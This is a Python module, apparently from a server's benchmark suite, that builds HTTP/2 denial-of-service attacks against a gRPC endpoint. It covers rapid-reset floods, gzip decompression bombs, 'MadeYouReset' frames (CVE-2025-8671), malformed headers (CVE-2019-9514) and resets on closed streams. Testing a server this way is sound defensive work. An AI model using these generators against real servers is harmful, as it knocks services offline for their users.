"""Attacks that begin work and give it up: by resets of their own, or by resets that they make the server send."""

from functools import partial

from benchmarks.attacks.link import (
    CLASSIFY,
    CLASSIFY_STREAM,
    Attack,
    Link,
    Message,
    Pieces,
    cancel,
    data,
    headers,
    request,
    stream_request,
    zipped,
)
from serving.transport import frames

#: About 230 KB, somewhat less than the window of a stream.
_BIG_IMAGES = 300
_BOMB_BYTES = 8 * 2**20
_CALLS_A_PIECE = 32
_MAX_PIECE_BYTES = 2**15


def _reset(link: Link, path: str, make: Message, *more: tuple[str, str], end: bool = True) -> Pieces:
    """Begin calls with one message and reset each at once."""
    yield from link.ready()
    message = make()[: link.stream_window]
    count = max(1, min(_CALLS_A_PIECE, _MAX_PIECE_BYTES // (len(message) + 1)))
    while True:
        yield from link.room(count * len(message))
        piece = b""
        for stream in (link.next_stream() for _ in range(count)):
            piece += headers(stream, path, *more) + data(stream, message, end) + cancel(stream)
        yield piece


def _gzip(link: Link) -> Pieces:
    yield from _reset(link, CLASSIFY, partial(zipped, b"\0", _BOMB_BYTES), ("grpc-encoding", "gzip"))


def _after_the_end(link: Link, fault: str) -> Pieces:
    """Make the server reset each call, by a frame that its stream may not have (CVE-2025-8671)."""
    yield from link.ready()
    message = request()
    while True:
        yield from link.room(_CALLS_A_PIECE * (len(message) + 1))
        piece = b""
        for stream in (link.next_stream() for _ in range(_CALLS_A_PIECE)):
            piece += headers(stream, CLASSIFY) + data(stream, message)
            piece += data(stream, b"x") if fault == "data" else frames.window_update(stream, 0)
        yield piece


def _malformed(link: Link) -> Pieces:
    """Make the server reset calls with a header name that HTTP/2 forbids (CVE-2019-9514)."""
    yield from link.ready()
    while True:
        yield b"".join(headers(link.next_stream(), CLASSIFY, ("Upper", "x")) for _ in range(_CALLS_A_PIECE))


def _on_closed_streams(link: Link) -> Pieces:
    """Reset a stream that has been closed for long."""
    yield from link.ready()
    stream = link.next_stream()
    yield headers(stream, CLASSIFY) + cancel(stream)
    while True:
        yield cancel(stream) * 1000


RESETS = (
    Attack("rapid reset, headers", partial(_reset, path=CLASSIFY, make=bytes)),
    Attack("rapid reset, whole requests", partial(_reset, path=CLASSIFY, make=request)),
    Attack("rapid reset, stream method", partial(_reset, path=CLASSIFY_STREAM, make=stream_request, end=False)),
    Attack("rapid reset, gzip bombs", _gzip),
    Attack("large requests reset", partial(_reset, path=CLASSIFY, make=partial(request, _BIG_IMAGES))),
    Attack("made you reset, data", partial(_after_the_end, fault="data")),
    Attack("made you reset, window", partial(_after_the_end, fault="window")),
    Attack("malformed headers", _malformed),
    Attack("resets on closed streams", _on_closed_streams),
)
